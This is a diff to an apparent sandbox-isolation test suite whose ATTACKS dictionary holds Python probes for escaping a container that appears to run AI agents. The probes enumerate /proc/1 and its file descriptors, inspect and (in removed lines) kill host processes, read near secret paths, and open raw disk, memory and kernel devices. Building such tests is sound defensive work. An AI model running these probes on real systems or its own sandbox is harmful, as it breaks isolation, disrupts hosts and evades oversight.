@@ -55,7 +55,9 @@ ATTACKS = {
     ),
     "list-beside-the-room": Attack(
         "for path in os.environ['SECRETS'].split(':'):\n"
-        "    attempt(path, os.listdir, os.path.dirname(path))"
+        "    try: found = os.listdir(os.path.dirname(path))\n"
+        "    except OSError: continue\n"
+        "    if found: print('ACHIEVED', path, found)"
     ),
     "climb-out-of-mounts": Attack(
         "for start in ('/home/data', '/home/submission', '/tmp', '/home/agent'):\n"
@@ -82,10 +84,13 @@ ATTACKS = {
         "    if b'HOST_KEY' in content.replace(b'NO_HOST_KEY', b''): print('ACHIEVED', content)"
     ),
     "root-of-the-first-process": Attack(
-        "for name in ('root/etc/shadow', 'cwd', 'fd', 'mem', 'map_files'):\n"
+        "for name in ('root/etc/hosts', 'cwd', 'exe', 'mem', 'map_files', 'environ', 'maps'):\n"
         "    path = '/proc/1/' + name\n"
-        "    attempt(path, lambda: os.listdir(path) if name in ('fd', 'map_files') else\n"
-        "            os.readlink(path) if name == 'cwd' else open(path, 'rb').read(10))"
+        "    attempt(path, lambda: os.listdir(path) if name in ('cwd', 'map_files') else\n"
+        "            open(path, 'rb').read(10))\n"
+        "for number in range(100):\n"
+        "    attempt(number, os.readlink, f'/proc/1/fd/{number}')\n"
+        "    attempt(number, os.open, f'/proc/1/fd/{number}', os.O_RDWR | os.O_NONBLOCK)"
     ),
     "reach-files-by-their-handle": Attack(
         "class Handle(ctypes.Structure):\n"
@@ -104,9 +109,10 @@ ATTACKS = {
     "kill-processes-of-the-host": Attack(
         "attempt('kill', os.kill, int(os.environ['HOST_PID']), 9)\n"
         "for pid in range(3, 40000):\n"
-        "    if pid == os.getpid(): continue\n"
-        "    try: os.kill(pid, 9); print('ACHIEVED', pid)\n"
-        "    except ProcessLookupError: pass"
+        "    try: os.kill(pid, 0)\n"
+        "    except ProcessLookupError: continue\n"
+        "    status = open(f'/proc/{pid}/status').read()\n"
+        "    if 'Tgid:\\t1\\n' not in status: print('ACHIEVED', pid, status)"
     ),
     "kill-the-door": Attack(
         "import signal\n"
@@ -232,9 +238,9 @@ ATTACKS = {
         "for number in (os.makedev(8, 0), os.makedev(254, 0), os.makedev(1, 1)):\n"
         "    attempt('mknod', os.mknod, '/tmp/disk', stat.S_IFBLK | 0o600, number)\n"
         "attempt('memory', os.mknod, '/tmp/mem', stat.S_IFCHR | 0o600, os.makedev(1, 1))\n"
-        "for path in ('/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/mem', '/dev/kmsg', '/dev/fuse',\n"
-        "             '/dev/loop-control', '/dev/kvm', '/dev/net/tun', '/dev/vsock', '/proc/kcore',\n"
-        "             '/proc/kmsg'):\n"
+        "for path in ('/dev/sda', '/dev/vda', '/dev/nvme0n1', '/dev/mem', '/dev/kmsg',\n"
+        "             '/dev/kvm', '/dev/loop-control', '/dev/net/tun', '/dev/vsock', '/dev/fuse',\n"
+        "             '/proc/kcore', '/proc/kmsg'):\n"
         "    attempt(path, os.open, path, os.O_RDONLY | os.O_NONBLOCK)"
     ),
     "the-kernel-itself": Attack(
